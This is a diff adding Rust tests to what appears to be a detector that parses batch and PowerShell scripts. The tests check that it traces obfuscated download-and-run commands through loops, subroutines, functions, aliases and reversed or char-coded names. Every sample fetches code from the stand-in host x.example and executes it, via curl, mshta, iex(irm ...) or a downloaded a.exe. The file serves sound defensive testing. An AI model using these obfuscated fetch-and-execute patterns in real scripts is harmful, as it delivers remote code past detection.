@@ -68,8 +68,57 @@ fn encoded_commands_are_read_in_any_encoding() {
 }
 
 #[test]
+fn loops_and_subroutines_of_batch_files_are_followed() {
+    let fetched = "$(curl -s http://x.example/a)";
+    for text in [
+        "for /f %%i in ('curl -s http://x.example/a') do %%i",
+        "if exist a (for /f \"delims=\" %%i in ('curl -s http://x.example/a') do @%%i)",
+        "for /f \"usebackq delims=\" %%i in (`curl -s http://x.example/a`) do (\r\nset x=%%i\r\n)\r\n%x%",
+        "setlocal enabledelayedexpansion\r\nfor /f %%i in ('cur^l -s http://x.example/a') do (set x=%%i & !x!)",
+        "curl -s http://x.example/a > b.txt\r\nset /p x=<b.txt\r\n%x%",
+        "for /f %%i in ('curl -s http://x.example/a') do call :run %%i\r\ngoto :eof\r\n:run\r\n%*\r\nexit /b",
+    ] {
+        let found = lists(&BATCH, text.as_bytes());
+        assert!(found.iter().any(|list| list.trim_end_matches([')', ' ']).ends_with(fetched.trim_end_matches(')'))), "{text}: {found:?}");
+    }
+    for text in [
+        "for /f %%i in ('echo mshta') do %%i http://x.example/a",
+        "for /f \"tokens=2 delims=,\" %%i in (\"a,mshta\") do %%i http://x.example/a",
+        "for %%i in (mshta) do %%i http://x.example/a",
+        "call :get mshta http://x.example/a\r\nexit /b\r\n:get\r\n%1 %~2",
+    ] {
+        let found = lists(&BATCH, text.as_bytes());
+        assert!(found.iter().any(|list| list == "mshta http://x.example/a"), "{text}: {found:?}");
+    }
+}
+
+#[test]
+fn functions_of_powershell_are_followed() {
+    for text in [
+        "function g($u) { iex (irm $u) }; g 'http://x.example/a'",
+        "function g {\n param([Parameter(Mandatory=$true)][string]$Uri, $out)\n return irm $Uri\n}\niex (g -Uri http://x.example/a)",
+        "function r($x) { iex $x }\nr (irm 'http://x.example/a')",
+        "$f = { param($u) iex (irm $u) }\n& $f http://x.example/a",
+        "filter x { iex (irm $_) }\n'http://x.example/a' | x",
+        "irm http://x.example/a | % { iex $_ }",
+        "sal z iex; z (irm http://x.example/a)",
+        "$r = irm http://x.example/a; iex $r",
+        "$n = -join ('xei'[2..0])\n& $n (irm http://x.example/a)",
+        "$n = (105,101,120 | % { [char]$_ }) -join ''\n& $n (irm http://x.example/a)",
+        "$a = 'xei'.ToCharArray(); [array]::Reverse($a); $n = -join $a; & $n (irm http://x.example/a)",
+    ] {
+        let found = lists(&POWERSHELL, text.as_bytes());
+        let tight = |text: &str| text.replace([' ', '\'', '"', '(', ')', '$', '@', '\\'], "");
+        assert!(found.iter().any(|list| tight(list).contains("iexirmhttp://x.example/a")), "{text}: {found:?}");
+    }
+    let found = lists(&POWERSHELL, b"$h = @{\n Uri = 'http://x.example/a'\n OutFile = 'a.exe'\n}\nInvoke-WebRequest @h\n& .\\a.exe");
+    assert!(found.iter().any(|list| list.contains("http://x.example/a") && list.contains("start & .")), "{found:?}");
+}
+
+#[test]
 fn hostile_and_cut_scripts_end() {
-    let texts = ["%a%".repeat(40_000), "$a = \"$a$a\"\n".repeat(2000), "set a=%a%%a%x\n".repeat(2000), "'+'".repeat(20_000), "(".repeat(50_000)];
+    let texts = ["%a%".repeat(40_000), "$a = \"$a$a\"\n".repeat(2000), "set a=%a%%a%x\n".repeat(2000), "'+'".repeat(20_000), "(".repeat(50_000),
+        "for %%i in (a) do ".repeat(5000), "function f{f}\nf\n".repeat(3000), "$f={".repeat(9000), "function f{ $f={&$f} f|f }\n".repeat(2000), "@{".repeat(9000), "call :a %1\n:a\n".repeat(5000)];
     for text in &texts {
         parse(&BATCH, "x.bat", text.as_bytes(), false);
         parse(&POWERSHELL, "x.ps1", text.as_bytes(), false);
